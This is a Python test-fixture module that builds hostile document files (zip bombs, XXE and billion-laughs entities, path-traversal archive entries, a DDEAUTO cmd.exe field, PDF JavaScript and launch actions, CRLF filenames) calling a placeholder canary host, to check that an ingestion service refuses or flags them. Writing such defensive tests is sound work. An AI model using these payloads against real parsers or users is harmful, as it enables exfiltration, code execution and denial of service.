"""Files that mean harm, made by code. Each is a name, its bytes, and what may become of it."""

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from tests.written_documents import (
    HEAD,
    MANIFEST,
    ODF,
    TYPES,
    W,
    archive,
    docx,
    docx_parts,
    odt,
    odt_parts,
    paragraph,
    pdf,
    pdf_of,
    relationships,
    run,
    stream,
)

MEGABYTE: Final = 1 << 20
TEXT: Final = paragraph("We ask you to listen.")
ODT_TEXT: Final = "<text:p>We ask you to listen.</text:p>"
PRINTED: Final = [[("We ask you to listen.", 12, 72, 700)]]


@dataclass(frozen=True)
class Hostile:
    """One file. `refused` is the code it must be refused with; else it is read, with a warning of code `told`."""

    what: str
    name: str
    data: bytes
    refused: tuple[str, ...] = ()
    told: str = ""


def refused(what: str, name: str, data: bytes, *reasons: str) -> Hostile:
    return Hostile(what, name, data, refused=reasons)


def harmless(what: str, name: str, data: bytes, told: str = "") -> Hostile:
    return Hostile(what, name, data, told=told)


def everything(canary: str) -> list[Hostile]:
    """All of them. Those that try to reach somebody try `canary`."""
    makers: tuple[Callable[[str], Iterator[Hostile]], ...] = (
        bombs, liars, definitions, word_documents, opendocuments, pdfs, pages_and_texts, names_and_magic,
    )  # fmt: skip
    return [one for maker in makers for one in maker(canary)]


# --- Archives ---------------------------------------------------------------------------------------


def bombs(_canary: str) -> Iterator[Hostile]:
    zeros = bytes(30 * MEGABYTE)
    yield refused("a part that unpacks a thousandfold", "a.docx", docx(TEXT, {"word/media/a.bin": zeros}), "bomb")
    yield refused("the text itself a bomb", "a.docx", docx(paragraph(run("a" * 30 * MEGABYTE))), "bomb")
    many = {f"word/media/{n}.bin": bytes(3 * MEGABYTE) for n in range(25)}
    yield refused("many parts that unpack to much", "a.docx", docx(TEXT, many), "bomb")
    yield refused("a bomb in an OpenDocument", "a.odt", odt(ODT_TEXT, {"Pictures/a.bin": zeros}), "bomb")
    entries = {f"word/media/{n}.bin": b"" for n in range(3_000)}
    yield refused("three thousand entries", "a.docx", docx(TEXT, entries), "archive")
    yield refused("an archive in an archive", "a.docx", archive({"a.docx": docx(TEXT)}), "damaged")
    yield refused("a megabyte of paragraphs", "a.docx", docx("<w:p/>" * 650_000), "heavy", "bomb")


def _changed(data: bytes, signature: bytes, offset: int, value: bytes, times: int = 1) -> bytes:
    """The archive with a field of the first headers of this kind overwritten."""
    out, at = bytearray(data), 0
    for _ in range(times):
        at = out.index(signature, at)
        out[at + offset : at + offset + len(value)] = value
        at += 4
    return bytes(out)


CENTRAL, LOCAL, END = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"


def liars(_canary: str) -> Iterator[Hostile]:
    plain = docx(TEXT)
    small = struct.pack("<L", 10)
    yield refused("an entry that says it is small", "a.docx", _changed(plain, CENTRAL, 24, small, 5), "damaged")
    yield refused("an entry that says it is huge", "a.docx", _changed(plain, CENTRAL, 24, b"\xff\xff\xff\x7f"), "bomb")
    yield refused("an entry that says it is encrypted", "a.docx", _changed(plain, CENTRAL, 8, b"\x01"), "encrypted")
    yield refused("an entry packed in a way nobody uses", "a.docx", _changed(plain, CENTRAL, 10, b"\x63"), "archive")
    yield refused("an end that counts other entries", "a.docx", _changed(plain, END, 10, b"\xff\x7f"), "archive")
    yield refused(
        "a directory that lies elsewhere", "a.docx", _changed(plain, END, 16, b"\xff\xff\xff\x00"), "damaged", "archive"
    )
    overlapping = _changed(_changed(plain, CENTRAL, 42, struct.pack("<L", 0)), CENTRAL, 42, struct.pack("<L", 0), 2)
    yield refused("entries that lie on each other", "a.docx", overlapping, "archive")
    yield refused(
        "entries that lie in each other", "a.docx", _changed(plain, CENTRAL, 20, b"\xff\x02", 1), "archive", "damaged"
    )
    yield refused("an archive cut in half", "a.docx", plain[: len(plain) // 2], "damaged")
    yield refused(
        "damage in the middle",
        "a.docx",
        plain[:400] + b"\0" * 300 + plain[700:],
        "damaged",
        "archive",
        "bomb",
        "encrypted",
    )
    for name in ("../../etc/passwd", "/etc/passwd", "word\\..\\a.xml"):
        yield refused(f"an entry called {name}", "a.docx", docx(TEXT, {name: b"x"}), "archive")
    zero = archive(docx_parts(TEXT)).replace(b"word/numbering.xml", b"word/document.xml\0")
    yield refused("a name with a zero in it", "a.docx", zero, "archive")
    same = archive(docx_parts(TEXT, {"word/documenu.xml": "<x/>"})).replace(b"word/documenu.xml", b"word/document.xml")
    yield refused("two parts of one name", "a.docx", same, "archive")


def definitions(canary: str) -> Iterator[Hostile]:
    outside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xxe">]>'
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    ) + "]>"  # fmt: skip
    parts = docx_parts(TEXT, {
        "word/footnotes.xml": f"{HEAD}<w:footnotes {W}/>", "word/comments.xml": f"{HEAD}<w:comments {W}/>",
        "word/settings.xml": f"{HEAD}<w:settings {W}/>", "docProps/app.xml": f"{HEAD}<Properties/>",
        "word/_rels/document.xml.rels": relationships(), "customXml/item1.xml": f"{HEAD}<x/>",
    })  # fmt: skip
    for name, content in parts.items():
        planted = str(content).replace(HEAD, HEAD + outside)
        yield refused(f"an outside entity in {name}", "a.docx", archive({**parts, name: planted}), "entities")
    for name in ("content.xml", "styles.xml", "META-INF/manifest.xml"):
        planted = str(odt_parts(ODT_TEXT)[name]).replace(HEAD, HEAD + outside)
        yield refused(f"an outside entity in {name}", "a.odt", odt(ODT_TEXT, {name: planted}), "entities")
    document = str(docx_parts(paragraph("&i;"))["word/document.xml"])
    yield refused(
        "a billion laughs",
        "a.docx",
        archive({**parts, "word/document.xml": document.replace(HEAD, HEAD + laughs)}),
        "entities",
    )
    by_parameter = HEAD + f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}/parameter"> %p;]>'
    yield refused(
        "a parameter entity",
        "a.docx",
        archive({**parts, "word/document.xml": document.replace(HEAD, by_parameter)}),
        "entities",
    )
    subset = HEAD + f'<!DOCTYPE x SYSTEM "{canary}/subset.dtd">'
    yield refused(
        "an outside subset",
        "a.docx",
        archive({**parts, "word/styles.xml": str(parts["word/styles.xml"]).replace(HEAD, subset)}),
        "entities",
    )
    wide = (outside + "<x>&e;</x>").encode("utf-16")
    yield refused("an outside entity in UTF-16", "a.docx", archive({**parts, "word/settings.xml": wide}), "entities")
    yield refused(
        "a hundred thousand elements in each other",
        "a.docx",
        docx("<w:sdt>" * 50_000 + "</w:sdt>" * 50_000),
        "nesting",
        "bomb",
    )
    yield refused("a part that is no XML", "a.docx", docx(TEXT, {"word/styles.xml": b"\xff\xfe\0\0<"}), "damaged")


# --- Word and OpenDocument --------------------------------------------------------------------------


def word_documents(canary: str) -> Iterator[Hostile]:
    rels = "word/_rels/document.xml.rels"
    yield refused("macros", "a.docx", docx(TEXT, {"word/vbaProject.bin": b"x"}), "macros")
    enabled = TYPES.replace("wordprocessingml.document.main", "x.macroEnabled.main")
    yield refused("macros by its types", "a.docx", docx(TEXT, {"[Content_Types].xml": enabled}), "macros")
    chunk = {rels: relationships(("r1", "aFChunk", "a.html"), external=False), "word/a.html": b"<p>x"}
    yield refused("altChunk", "a.docx", docx(TEXT + '<w:altChunk r:id="r1"/>', chunk), "elsewhere")
    yield refused(
        "a document in parts",
        "a.docx",
        docx(TEXT, {rels: relationships(("r1", "subDocument", f"{canary}/b.docx"))}),
        "elsewhere",
    )
    template = {"word/_rels/settings.xml.rels": relationships(("r1", "attachedTemplate", f"{canary}/t.dotm"))}
    yield harmless("a template from elsewhere", "a.docx", docx(TEXT, template), "external")
    yield harmless(
        "a picture from elsewhere",
        "a.docx",
        docx(TEXT, {rels: relationships(("r1", "image", f"{canary}/p.png"))}),
        "external",
    )
    yield harmless(
        "a frame from elsewhere",
        "a.docx",
        docx(TEXT, {rels: relationships(("r1", "frame", f"{canary}/f"))}),
        "external",
    )
    yield harmless(
        "an object from elsewhere",
        "a.docx",
        docx(TEXT, {rels: relationships(("r1", "oleObject", f"{canary}/o"))}),
        "external",
    )
    yield harmless("an object inside", "a.docx", docx(TEXT, {"word/embeddings/oleObject1.bin": b"MZ"}), "embedded")
    yield harmless("a control inside", "a.docx", docx(TEXT, {"word/activeX/activeX1.bin": b"x"}), "embedded")
    yield harmless("a link that is a script", "a.docx", docx(
        TEXT + paragraph(f'<w:hyperlink r:id="r1">{run("press")}</w:hyperlink>'),
        {rels: relationships(("r1", "hyperlink", "javascript:alert(1)"))}), "links")  # fmt: skip
    for field in (
        f"INCLUDETEXT {canary}/i",
        f"INCLUDEPICTURE {canary}/p",
        "DDEAUTO c:\\\\cmd.exe /k calc",
        f"LINK Word {canary}/l",
    ):
        simple = paragraph(f'<w:fldSimple w:instr="{field}">{run("We ask you.")}</w:fldSimple>')
        yield harmless(f"a field of {field.split()[0]}", "a.docx", docx(simple), "fields")
    spans = "".join(
        f"<w:tr><w:tc><w:tcPr><w:gridSpan w:val='{10**9}'/></w:tcPr>{TEXT}</w:tc></w:tr>" for _ in range(200)
    )
    yield harmless("cells that span a billion columns", "a.docx", docx(f"<w:tbl>{spans}</w:tbl>"), "tables")
    yield harmless("text that turns around", "a.docx", docx(paragraph("We \u202eask\u202c you \u2066x")), "controls")
    yield refused("two megabytes of one word", "a.docx", docx(paragraph("ab" * MEGABYTE)), "long", "bomb")
    yield refused("one word of a page", "a.docx", docx(paragraph("x" * 3_000)), "word")
    yield refused("no text at all", "a.docx", docx("<w:p/>"), "no_text")
    yield harmless("styles that are based on each other", "a.docx", docx(paragraph("We ask.", style="A"), {
        "word/styles.xml": f"{HEAD}<w:styles {W}><w:style w:styleId='A'><w:basedOn w:val='B'/></w:style>"
        "<w:style w:styleId='B'><w:basedOn w:val='A'/></w:style></w:styles>"}))  # fmt: skip
    tables = "<w:tbl><w:tr><w:tc>" * 60 + TEXT + "</w:tc></w:tr></w:tbl>" * 60
    yield harmless("sixty tables in each other", "a.docx", docx(tables), "tables")
    yield refused("a hundred thousand calls of notes", "a.docx", docx(paragraph("<w:r><w:footnoteReference w:id='1'/></w:r>" * 100_000), {  # noqa: E501
        "word/footnotes.xml": f"{HEAD}<w:footnotes {W}><w:footnote w:id='1'>{paragraph('x' * 900 + ' ' + 'y' * 900)}"
        f"{paragraph(chr(60) + 'w:r><w:footnoteReference w:id=' + chr(34) + '1' + chr(34) + '/></w:r>')}</w:footnote></w:footnotes>"}),  # noqa: E501
        "heavy", "long", "bomb")  # fmt: skip


def opendocuments(canary: str) -> Iterator[Hostile]:
    of_content = 'full-path="content.xml" manifest:media-type="text/xml"'
    secret = MANIFEST.replace(f"{of_content}/>", f"{of_content}><manifest:encryption-data/></manifest:file-entry>")
    assert secret != MANIFEST
    yield refused("an encrypted OpenDocument", "a.odt", odt(ODT_TEXT, {"META-INF/manifest.xml": secret}), "encrypted")
    yield refused("Basic", "a.odt", odt(ODT_TEXT, {"Basic/Standard/Module1.xml": "<x/>"}), "macros")
    yield refused("Python in a document", "a.odt", odt(ODT_TEXT, {"Scripts/python/a.py": "x"}), "macros")
    yield refused(
        "a spreadsheet by another name",
        "a.odt",
        odt(ODT_TEXT, {"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "mismatch",
    )
    yield refused(
        "a template by another name",
        "a.odt",
        odt(ODT_TEXT, {"mimetype": "application/vnd.oasis.opendocument.text-template"}),
        "template",
    )
    section = f"<text:section><text:section-source xlink:href='{canary}/s'/>{ODT_TEXT}</text:section>"
    yield harmless("a section from elsewhere", "a.odt", odt(section), "fields")
    picture = f"<text:p>We ask.<draw:frame><draw:image xlink:href='{canary}/p.png'/></draw:frame></text:p>"
    yield harmless("a picture from elsewhere", "a.odt", odt(picture), "external")
    event = f"<text:p>We ask.<office:event-listeners><script:event-listener xlink:href='{canary}/e'/></office:event-listeners></text:p>"  # noqa: E501
    yield harmless("an event", "a.odt", odt(event), "scripts")
    yield harmless(
        "an object",
        "a.odt",
        odt("<text:p>We ask.<draw:frame><draw:object xlink:href='./Object 1'/></draw:frame></text:p>"),
        "embedded",
    )
    spaces = "<text:p>We<text:s text:c='999999999'/>ask.</text:p>"
    yield harmless("a billion spaces", "a.odt", odt(spaces))
    cells = f"<table:table><table:table-row table:number-rows-repeated='{10**9}'><table:table-cell>{ODT_TEXT}</table:table-cell></table:table-row></table:table>"  # noqa: E501
    yield harmless("a row repeated a billion times", "a.odt", odt(cells), "tables")
    yield refused(
        "sections in each other", "a.odt", odt("<text:section>" * 5_000 + "</text:section>" * 5_000), "nesting", "bomb"
    )
    yield refused("a flat text in place of a package", "a.odt", f"{HEAD}<office:document {ODF}/>".encode(), "mismatch")


# --- PDF --------------------------------------------------------------------------------------------


def pdfs(canary: str) -> Iterator[Hostile]:
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{canary}/js'\\)) >>"
    yield harmless("a script", "a.pdf", pdf(PRINTED, catalog=script), "scripts")
    launch = "/OpenAction << /S /Launch /F (calc.exe) >>"
    yield harmless("a program to start", "a.pdf", pdf(PRINTED, catalog=launch), "scripts")
    named = (
        f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\('{canary}/form'\\)) >>] >> >>"
    )
    yield harmless("a script with a name", "a.pdf", pdf(PRINTED, catalog=named), "scripts")
    submit = f"/AA << /O << /S /SubmitForm /F << /FS /URL /F ({canary}/submit) >> >> >>"
    yield harmless("a form that sends itself", "a.pdf", pdf(PRINTED, page=submit), "scripts")
    button = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /Launch /F (a.exe) >> >>]"
    yield harmless("a link that starts a program", "a.pdf", pdf(PRINTED, page=button), "external")
    remote = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /GoToR /F ({canary}/g.pdf) /D [0 /Fit] >> >>]"  # noqa: E501
    yield harmless("a link into another file", "a.pdf", pdf(PRINTED, page=remote), "external")
    files = "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
    inside = ["<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream("MZ", "/Type /EmbeddedFile")]
    yield harmless("a file inside", "a.pdf", pdf(PRINTED, catalog=files, objects=inside), "attachments")
    xfa = "/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>"
    form = [stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")]
    yield refused("a form of XFA", "a.pdf", pdf(PRINTED, catalog=xfa, objects=form), "form")
    yield harmless(
        "a form with XFA beside it",
        "a.pdf",
        pdf(PRINTED, catalog=xfa.replace("/NeedsRendering true", ""), objects=form),
        "form",
    )
    yield refused("an encrypted PDF", "a.pdf", _encrypted(), "encrypted")
    deep = ["<< /Type /Catalog /Pages 2 0 R >>", *(f"<< /Type /Pages /Kids [{n} 0 R {n} 0 R] /Count {2**30} >>" for n in range(3, 40)),  # noqa: E501
            "<< /Type /Page /MediaBox [0 0 9 9] >>"]  # fmt: skip
    yield refused("a tree of a billion pages", "a.pdf", pdf_of(deep), "many_pages", "damaged")
    ring = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 5 >>"]
    yield refused("pages in a ring", "a.pdf", pdf_of(ring), "damaged", "many_pages")
    yield harmless(
        "a count of pages that is a lie", "a.pdf", pdf(PRINTED).replace(b"/Count 1 ", b"/Count 999999999 "), "pdf"
    )
    yield refused("five hundred pages", "a.pdf", pdf(PRINTED * 500), "many_pages")
    bomb = zlib.compress(zlib.compress(b"BT /F1 12 Tf 72 700 Td (a) Tj ET\n" * 2_200_000, 9), 9)
    packed = pdf(PRINTED, objects=[stream(bomb, "/Filter [/FlateDecode /FlateDecode]")]).replace(
        b"/Contents 5 0 R", b"/Contents 6 0 R"
    )
    yield refused("a page that unpacks to much", "a.pdf", packed, "heavy", "damaged", "long", "word")
    huge = pdf(PRINTED).replace(b"[0 0 612 792]", b"[0 0 9e9 9e9]")
    yield harmless("a page as large as the moon", "a.pdf", huge, "pdf")
    yield refused("a PDF cut in half", "a.pdf", pdf(PRINTED)[:200], "damaged")
    yield refused("nothing but a header", "a.pdf", b"%PDF-1.7\n%%EOF", "damaged")
    reference = ["<< /Type /Catalog /Pages 2 0 R >>", "2 0 R"]
    yield refused("an object that is itself", "a.pdf", pdf_of(reference), "damaged")
    yield refused(
        "arrays in each other",
        "a.pdf",
        pdf_of(["<< /Type /Catalog /Pages 2 0 R >>", b"[" * 2 * MEGABYTE]),
        "damaged",
        "heavy",
    )


def _encrypted() -> bytes:
    # The dictionary alone makes readers ask for a password: no key fits what is not a hash of one.
    secret = f"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >> /ID [<41> <42>]"  # noqa: E501
    data = pdf(PRINTED)
    return data.replace(b"trailer << ", b"trailer << " + secret.encode() + b" ")


# --- Web pages, text, Markdown ----------------------------------------------------------------------


def pages_and_texts(canary: str) -> Iterator[Hostile]:
    def page(inside: str) -> bytes:
        return f"<html><meta charset=utf-8><body><p>We ask you to listen.</p>{inside}</body></html>".encode()

    yield harmless("a script", "a.html", page(f"<script src='{canary}/s.js'></script>"), "scripts")
    yield harmless("a handler", "a.html", page("<p onclick='alert(1)'>x</p>"), "scripts")
    yield harmless("a picture", "a.html", page(f"<img src='{canary}/p.png'>"), "external")
    yield harmless("a page in the page", "a.html", page(f"<iframe src='{canary}/f'></iframe>"), "embedded")
    yield harmless("a form", "a.html", page(f"<form action='{canary}/x'><input name=password></form>"), "form")
    yield harmless("a link that is a script", "a.html", page("<a href='java\tscript:alert(1)'>x</a>"), "links")
    yield harmless("a style from elsewhere", "a.html", page(f"<link rel=stylesheet href='{canary}/s.css'>"))
    yield harmless("a refresh", "a.html", page(f"<meta http-equiv=refresh content='0;url={canary}/r'>"))
    yield harmless("a page that is elsewhere", "a.html", page(f"<base href='{canary}/'>"))
    yield refused("a hundred thousand elements in each other", "a.html", page("<div>" * 100_000), "nesting")
    yield harmless(
        "cells of a thousand columns",
        "a.html",
        page("<table><tr>" + "<td colspan=1000 rowspan=9999999>x" * 200),
        "tables",
    )
    yield harmless("two hundred thousand ends of nothing", "a.html", page("</b>" * 200_000))
    yield refused("two megabytes of one word", "a.html", page("ab" * MEGABYTE), "long")
    yield harmless("comments without end", "a.html", page("<!-- " * 1_000))
    yield refused("a declaration that is none", "a.html", page("<![foo bar"), "damaged")
    yield refused("two megabytes of one word", "a.txt", b"ab" * MEGABYTE, "long")
    yield refused("nothing but zeros", "a.txt", bytes(5_000), "letters")
    yield refused("a program by another name", "a.txt", b"\x7fELF\x02\x01\x01" + bytes(64), "mismatch")
    yield harmless("text that turns around", "a.txt", "We \u202eask\u202c you.".encode(), "controls")
    yield harmless(
        "text nobody sees", "a.txt", ("We ask." + "".join(chr(0xE0000 + ord(c)) for c in "Pay")).encode(), "controls"
    )
    yield harmless("accents that climb", "a.txt", ("We a" + "\u0301" * 5_000 + "sk.").encode())
    yield harmless("HTML in Markdown", "a.md", f"We ask. <script src='{canary}/s.js'></script>".encode())
    yield harmless("a picture in Markdown", "a.md", f"We ask. ![x]({canary}/p.png)".encode(), "pictures")
    yield harmless("a script in Markdown", "a.md", b"We ask. [x](javascript:alert(1))", "links")
    yield harmless("brackets without end", "a.md", b"We ask. " + b"[ " * 5_000)


def names_and_magic(_canary: str) -> Iterator[Hostile]:
    yield refused("a Word document that is a PDF", "a.docx", pdf(PRINTED), "mismatch")
    yield refused("a PDF that is a Word document", "a.pdf", docx(TEXT), "mismatch")
    yield refused("a Word document that is text", "a.docx", b"We ask you.", "mismatch")
    yield refused("a Word document of the old kind", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "doc")
    locked = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le")
    yield refused("an encrypted Word document", "a.docx", locked, "encrypted")
    yield refused("Rich Text by another name", "a.docx", b"{\\rtf1 x}", "rtf")
    yield refused("a picture by another name", "a.pdf", b"\x89PNG\r\n\x1a\n", "picture")
    yield refused("an OpenDocument by another name", "a.docx", odt(ODT_TEXT), "damaged")
    yield refused("a Word document by another name", "a.odt", docx(TEXT), "mismatch")
    yield refused("nothing", "a.docx", b"", "empty")
    yield refused("eleven megabytes", "a.txt", b"a " * (11 * MEGABYTE // 2), "large")
    yield harmless("a name of ten thousand letters", "x" * 10_000 + ".docx", docx(TEXT))
    yield harmless("a name that turns around", "cod.\u202etxt.docx", docx(TEXT))
    yield harmless("a name with a line end", "a\r\nX-Header: 1.docx", docx(TEXT))
    yield harmless("a name that leads elsewhere", "../../../etc/cron.d/a.docx", docx(TEXT))
    yield refused("a name with two ends", "a.docx.exe", docx(TEXT), "kind")
